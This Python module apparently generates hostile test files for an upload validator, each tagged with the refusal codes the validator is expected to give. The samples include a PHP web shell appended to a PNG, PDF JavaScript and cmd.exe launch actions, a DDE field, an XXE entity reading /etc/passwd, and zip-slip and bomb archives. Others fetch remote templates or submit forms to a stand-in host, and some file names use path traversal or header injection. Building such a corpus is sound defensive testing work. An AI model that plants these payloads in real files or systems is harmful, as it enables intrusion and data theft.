"""Files that must never be kept, and a few that must; everything is made here, nothing is fetched.

``corpus()`` gives the sixty-odd named files, ``make(n)`` gives as many as asked by bending the named ones.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import docx
import pikepdf
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: what it is, the name it comes under, its bytes, and the codes that may refuse it."""

    what: str
    name: str
    content: bytes
    codes: tuple[str, ...]


def good_jpeg(*, exif: bool = False) -> bytes:
    """Give a JPEG picture, with a camera's notes and a place when asked."""
    picture, out = Image.effect_noise((120, 80), 60).convert("RGB"), io.BytesIO()
    notes = Image.Exif()
    if exif:
        notes[0x010F] = "SECRETCAMERA"
        notes.get_ifd(0x8825)[1] = "N"
        notes.get_ifd(0x8825)[2] = (23.0, 7.0, 12.0)
    picture.save(out, "JPEG", exif=notes, comment=b"SECRETCOMMENT" if exif else b"")
    return out.getvalue()


def good_png() -> bytes:
    """Give a PNG picture with a text chunk."""
    from PIL.PngImagePlugin import PngInfo

    notes, out = PngInfo(), io.BytesIO()
    notes.add_text("Author", "SECRETAUTHOR")
    Image.effect_noise((90, 60), 40).convert("RGBA").save(out, "PNG", pnginfo=notes)
    return out.getvalue()


def good_pdf(pages: int = 2) -> bytes:
    """Give a PDF with metadata and the harmless opening view that many printers write."""
    with pikepdf.new() as pdf:
        for _page in range(pages):
            pdf.add_blank_page(page_size=(595, 842))
        pdf.docinfo["/Author"] = "SECRETAUTHOR"
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        return _saved(pdf)


def good_docx() -> bytes:
    """Give a Word document with a table."""
    document, out = docx.Document(), io.BytesIO()
    document.add_paragraph("个人现实表现：王䶮")
    document.add_table(rows=2, cols=2)
    document.save(out)
    return out.getvalue()


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _pdf(change, **options) -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        change(pdf)
        return _saved(pdf, **options)


def _action(**facts) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{key}": value for key, value in facts.items()})


def _with_opening(action: pikepdf.Dictionary):
    return lambda pdf: setattr(pdf.Root, "OpenAction", action)


def _attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["notes.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(100), filename="notes.exe")


def _names_script(pdf: pikepdf.Pdf) -> None:
    script = _action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))


def _annotation(kind: str, **facts):
    def change(pdf: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(kind), Rect=[0, 0, 9, 9], **facts)
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(note)]))

    return change


def _page_script(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=_action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1")))


def _million_pages(pdf: pikepdf.Pdf) -> None:
    leaf = pdf.pages[0].obj
    low = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=[leaf] * 100, Count=100))
    middle = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=[low] * 100, Count=10_000))
    top = pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=[middle] * 100, Count=1_000_000)
    pdf.Root.Pages = pdf.make_indirect(top)


def _stream_bomb(pdf: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(220 * 1024 * 1024), 9)
    pdf.pages[0].Contents = pikepdf.Stream(pdf, packed, Filter=pikepdf.Name.FlateDecode)


def _pixel_flood(pdf: pikepdf.Pdf) -> None:
    facts = {"Type": "/XObject", "Subtype": "/Image", "Filter": "/FlateDecode", "ColorSpace": "/DeviceGray"}
    names = {key: pikepdf.Name(value) for key, value in facts.items()}
    image = pikepdf.Stream(pdf, zlib.compress(b"0"), Width=60_000, Height=60_000, BitsPerComponent=8, **names)
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=pdf.make_indirect(image)))


def _pdfs() -> Iterator[Hostile]:
    def one(what: str, content: bytes, *codes: str) -> Hostile:
        return Hostile(what, f"{what}.pdf", content, codes)

    text = pikepdf.String
    launch = _action(S=pikepdf.Name.Launch, F=text("cmd.exe"))
    plain = good_pdf()
    key = pikepdf.Encryption(owner="o", user="u")
    owner_only = pikepdf.Encryption(owner="o", user="")
    yield one(
        "pdf script on opening", _pdf(_with_opening(_action(S=pikepdf.Name.JavaScript, JS=text("1")))), "active_content"
    )
    yield one("pdf launch on opening", _pdf(_with_opening(launch)), "active_content")
    yield one("pdf script by name", _pdf(_names_script), "active_content")
    yield one(
        "pdf script in object streams",
        _pdf(_names_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active_content",
    )
    yield one("pdf page script", _pdf(_page_script), "active_content")
    yield one("pdf launch behind a link", _pdf(_annotation("/Link", A=launch)), "active_content")
    yield one(
        "pdf second action", _pdf(_annotation("/Link", A=_action(S=pikepdf.Name.GoTo, Next=launch))), "active_content"
    )
    yield one("pdf attachment", _pdf(_attach), "active_content")
    yield one("pdf attachment note", _pdf(_annotation("/FileAttachment")), "active_content")
    yield one("pdf rich media", _pdf(_annotation("/RichMedia")), "active_content")
    yield one("pdf movie", _pdf(_annotation("/Movie")), "active_content")
    yield one(
        "pdf form that sends",
        _pdf(_annotation("/Widget", A=_action(S=pikepdf.Name.SubmitForm, F=text("http://x.invalid")))),
        "active_content",
    )
    yield one(
        "pdf xfa form",
        _pdf(lambda pdf: setattr(pdf.Root, "AcroForm", pikepdf.Dictionary(XFA=text("<xdp/>")))),
        "active_content",
    )
    yield one(
        "pdf goes to another file",
        _pdf(_annotation("/Link", A=_action(S=pikepdf.Name.GoToR, F=text("//host/share")))),
        "active_content",
    )
    yield one("pdf encrypted", _pdf(lambda pdf: None, encryption=key), "encrypted")
    yield one("pdf encrypted for the owner", _pdf(lambda pdf: None, encryption=owner_only), "encrypted")
    yield one("pdf million pages", _pdf(_million_pages), "too_many_pages", "damaged")
    yield one("pdf 301 pages", good_pdf(301), "too_many_pages")
    yield one("pdf stream bomb", _pdf(_stream_bomb), "too_heavy")
    yield one("pdf pixel flood", _pdf(_pixel_flood), "too_many_pixels")
    yield one(
        "pdf with eicar", _pdf(lambda pdf: setattr(pdf.pages[0], "Contents", pikepdf.Stream(pdf, EICAR))), "virus"
    )
    yield one(
        "pdf with packed eicar",
        _pdf(
            lambda pdf: setattr(
                pdf.pages[0], "Contents", pikepdf.Stream(pdf, zlib.compress(EICAR), Filter=pikepdf.Name.FlateDecode)
            )
        ),
        "virus",
    )
    yield one("pdf truncated", plain[: len(plain) // 2], "truncated", "damaged")
    yield one("pdf head only", b"%PDF-1.7\n", "truncated")
    yield one("pdf garbage", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", "damaged")
    yield one("pdf and zip", plain + _zip({"a.txt": b"a"}), "polyglot")
    yield one("pdf and html", plain + b"<html><script>alert(1)</script>", "polyglot")
    yield one("pdf and a long tail", plain + b"x" * 100_000, "polyglot")
    yield one("html head before pdf", b"<html><script>1</script>" + plain, "type_mismatch")


def _zip(parts: dict[str, bytes], **info) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            for key, value in info.items():
                setattr(entry, key, value)
            archive.writestr(entry, part)
    return out.getvalue()


def _docx(extra: dict[str, bytes] | None = None, *, change: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(good_docx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, (old, new) in (change or {}).items():
        assert old in parts[name], (name, old)
        parts[name] = parts[name].replace(old, new, 1)
    return _zip(parts | (extra or {}))


def _relation(kind: str, target: str) -> bytes:
    return f'<Relationship Id="rId99" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'.encode()


def _related(kind: str, target: str) -> bytes:
    end = b"</Relationships>"
    return _docx(change={"word/_rels/document.xml.rels": (end, _relation(kind, target) + end)})


def _body(inside: bytes) -> bytes:
    return _docx(change={"word/document.xml": (b"<w:body>", b"<w:body>" + inside)})


def _symlink() -> bytes:
    out = io.BytesIO(good_docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice() -> bytes:
    out = io.BytesIO(good_docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", b"<a/>")
    return out.getvalue()


def _locked_member() -> bytes:
    content = bytearray(good_docx())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def _docxs() -> Iterator[Hostile]:
    def one(what: str, content: bytes, *codes: str) -> Hostile:
        return Hostile(what, f"{what}.docx", content, codes)

    macro_types = {"[Content_Types].xml": (b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml")}
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    bomb = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">' + laughs + b"]><a>&l9;</a>"
    outside = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    part = b"<w:r><w:instrText>%s</w:instrText></w:r>"
    run = b"<w:p>" + part + part + b"</w:p>"
    plain = good_docx()
    nest = _zip({"a.xml": bytes(10 * 1024 * 1024)})
    yield one("docm renamed", _docx({"word/vbaProject.bin": OLE}, change=macro_types), "macro")
    yield one("docx with vba", _docx({"word/vbaProject.bin": OLE}), "macro")
    yield one("docx macro type", _docx(change=macro_types), "macro")
    yield one("docx activex", _docx({"word/activeX/activeX1.xml": b"<a/>"}), "macro")
    yield one("docx ribbon", _docx({"customUI/customUI.xml": b"<a/>"}), "macro")
    yield one("docx ole object", _docx({"word/embeddings/oleObject1.bin": OLE}), "embedded_object")
    yield one("docx sheet inside", _docx({"word/embeddings/a.xlsx": nest}), "embedded_object")
    yield one("docx object tag", _body(b"<w:p><w:r><w:object/></w:r></w:p>"), "embedded_object")
    yield one("docx program inside", _docx({"word/media/run.exe": b"MZ"}), "embedded_object")
    yield one("docx svg inside", _docx({"word/media/a.svg": b"<svg onload='1'/>"}), "embedded_object")
    yield one("docx html as png", _docx({"word/media/a.png": b"<html><script>1</script>"}), "embedded_object")
    yield one("docx html chunk", _docx({"word/afchunk.htm": b"<html>"}), "embedded_object")
    yield one("docx nested zip", _docx({"word/media/a.zip": nest}), "embedded_object")
    yield one("docx remote template", _related("attachedTemplate", "http://x.invalid/a.dotm"), "external_reference")
    yield one("docx remote picture", _related("image", "http://x.invalid/a.png"), "external_reference")
    yield one("docx share link", _related("hyperlink", "file://host/share"), "external_reference")
    yield one("docx remote frame", _related("frame", "http://x.invalid/"), "external_reference")
    yield one("docx dde field", _body(run % (b"DDE", b"AUTO c:\\\\cmd.exe")), "external_reference")
    yield one(
        "docx include field",
        _body(b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://x.invalid"/></w:p>'),
        "external_reference",
    )
    yield one("docx billion laughs", _docx({"word/laugh.xml": bomb}), "forbidden_xml")
    yield one("docx outside entity", _docx({"word/outside.xml": outside}), "forbidden_xml")
    yield one("docx slip", _docx({"../../evil.xml": b"<a/>"}), "archive_structure")
    yield one("docx absolute", _docx({"/etc/evil.xml": b"<a/>"}), "archive_structure")
    yield one("docx backslash", _docx({"word\\..\\evil.xml": b"<a/>"}), "archive_structure")
    yield one("docx symlink", _symlink(), "archive_structure")
    yield one("docx member twice", _twice(), "archive_structure")
    yield one("docx locked", _locked_member(), "encrypted")
    yield one("docx with password", OLE, "encrypted")
    yield one("docx zip bomb", _docx({"word/big.xml": bytes(120 * 1024 * 1024)}), "archive_too_large")
    yield one(
        "docx 250 MB",
        _docx({f"word/{n}.xml": random.Random(n).randbytes(6000) * 6000 for n in range(7)}),
        "archive_too_large",
    )
    yield one("docx 3000 members", _docx({f"word/{n}.xml": b"<a/>" for n in range(3000)}), "archive_too_large")
    yield one("docx 100000 members", _zip({f"{n}": b"" for n in range(100_000)}), "archive_too_large")
    yield one("docx with eicar", _docx({"word/media/a.png": b"\x89PNG" + EICAR}), "virus")
    yield one("docx broken xml", _docx({"word/a.xml": b"<a><b></a>"}), "damaged")
    yield one("docx truncated", plain[: len(plain) * 2 // 3], "damaged")
    yield one("plain zip as docx", _zip({"a.txt": b"a"}), "type_mismatch")
    yield one("sheet as docx", _zip({"xl/workbook.xml": b"<a/>", "[Content_Types].xml": b"<a/>"}), "type_mismatch")
    yield one("docx with archive comment", _commented(plain), "polyglot")


def _commented(content: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return out.getvalue()


def _png_of(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def _pictures() -> Iterator[Hostile]:
    jpeg, png = good_jpeg(), good_png()
    archive = _zip({"a.txt": b"a"})
    flood = bytearray(jpeg)
    at = flood.find(b"\xff\xc0")
    flood[at + 5 : at + 9] = struct.pack("!HH", 60_000, 60_000)
    yield Hostile("png pixel flood", "flood.png", _png_of(60_000, 60_000), ("too_many_pixels",))
    yield Hostile("jpg pixel flood", "flood.jpg", bytes(flood), ("too_many_pixels",))
    yield Hostile("jpg and zip", "a.jpg", jpeg + archive, ("polyglot",))
    yield Hostile("png and zip", "a.png", png + archive, ("polyglot",))
    yield Hostile("jpg and html", "a.jpg", jpeg + b"<script>alert(1)</script>", ("polyglot",))
    yield Hostile("png and php", "a.png", png + b"<?php system($_GET[0]); ?>", ("polyglot",))
    yield Hostile("jpg and program", "a.jpg", jpeg + b"\x7fELF" + bytes(200), ("polyglot",))
    yield Hostile("jpg and a long tail", "a.jpg", jpeg + bytes(200_000), ("polyglot",))
    yield Hostile("jpg truncated", "a.jpg", jpeg[: len(jpeg) // 2], ("truncated",))
    yield Hostile("jpg without its last bytes", "a.jpg", jpeg[:-40], ("truncated",))
    yield Hostile("png truncated", "a.png", png[: len(png) // 2], ("truncated",))
    yield Hostile("png with a wrong sum", "a.png", png[:60] + b"\0\0\0\0" + png[64:], ("truncated", "damaged"))
    yield Hostile("jpg head only", "a.jpg", b"\xff\xd8\xff\xe0", ("damaged", "truncated"))


def _strangers() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield Hostile("gif and html", "a.jpg", b"GIF89a/*<script>*/=1;alert(1)//", ("type_mismatch",))
    yield Hostile("gif", "a.gif", b"GIF89a" + bytes(50), ("type_not_allowed",))
    yield Hostile("svg", "a.svg", svg, ("type_not_allowed",))
    yield Hostile("svg as png", "a.png", svg, ("type_mismatch",))
    yield Hostile("html as pdf", "a.pdf", b"<html><script>1</script></html>", ("type_mismatch",))
    yield Hostile("program as pdf", "a.pdf", b"MZ" + bytes(500), ("type_mismatch",))
    yield Hostile("program behind two extensions", "a.pdf.exe", b"MZ" + bytes(500), ("type_not_allowed",))
    yield Hostile("png as jpg", "a.jpg", good_png(), ("type_mismatch",))
    yield Hostile("pdf as docx", "a.docx", good_pdf(), ("type_mismatch",))
    yield Hostile("no extension", "scan", good_pdf(), ("type_not_allowed",))
    yield Hostile("no name", "", good_pdf(), ("type_not_allowed",))
    yield Hostile("old word file", "a.doc", OLE, ("old_office",))
    yield Hostile("docm", "a.docm", _docx({"word/vbaProject.bin": OLE}), ("macro",))
    yield Hostile("xlsm", "a.xlsm", _zip({"xl/vbaProject.bin": OLE}), ("macro",))
    yield Hostile("eicar", "a.pdf", EICAR, ("virus",))
    yield Hostile("eicar as docx", "a.docx", EICAR, ("virus",))
    yield Hostile("eicar in a zip", "a.docx", _zip({"eicar.com": EICAR}), ("virus", "type_mismatch"))
    yield Hostile("zip", "a.zip", _zip({"a": b"a"}), ("type_not_allowed",))
    yield Hostile("nothing", "a.pdf", b"", ("empty",))
    yield Hostile("too large", "a.pdf", b"%PDF-1.7\n" + bytes(20 * 1024 * 1024), ("too_large",))
    yield Hostile("name turned around", "scan\u202efdp.exe", good_pdf(), ("name_deceptive",))
    yield Hostile("name turned, right type", "gpj\u202escan.pdf", good_pdf(), ("name_deceptive",))
    yield Hostile("name with nul", "scan.exe\0.pdf", good_pdf(), ("name_deceptive",))
    yield Hostile("name with a path", "../../etc/cron.d/scan.pdf", good_pdf(), ("name_deceptive",))
    yield Hostile("name with a windows path", "..\\..\\scan.pdf", good_pdf(), ("name_deceptive",))
    yield Hostile("name with a line break", "scan\r\nSet-Cookie: a=b.pdf", good_pdf(), ("name_deceptive",))
    yield Hostile("name of 300 characters", "证" * 300 + ".pdf", good_pdf(), ("name_too_long",))


def corpus() -> list[Hostile]:
    """Give every named hostile file."""
    return [*_pdfs(), *_docxs(), *_pictures(), *_strangers()]


def make(count: int, seed: int = 1) -> list[Hostile]:
    """Give ``count`` hostile files: the named ones, then good files cut off at random places."""
    files, chance = corpus()[:count], random.Random(seed)
    kinds = {"pdf": good_pdf(3), "jpg": good_jpeg(), "png": good_png(), "docx": good_docx()}
    while len(files) < count:
        extension = chance.choice(sorted(kinds))
        whole = kinds[extension]
        cut = chance.randrange(8, len(whole) * 9 // 10)
        codes = ("truncated", "damaged", "type_mismatch")
        files.append(Hostile(f"{extension} cut at {cut}", f"cut.{extension}", whole[:cut], codes))
    return files
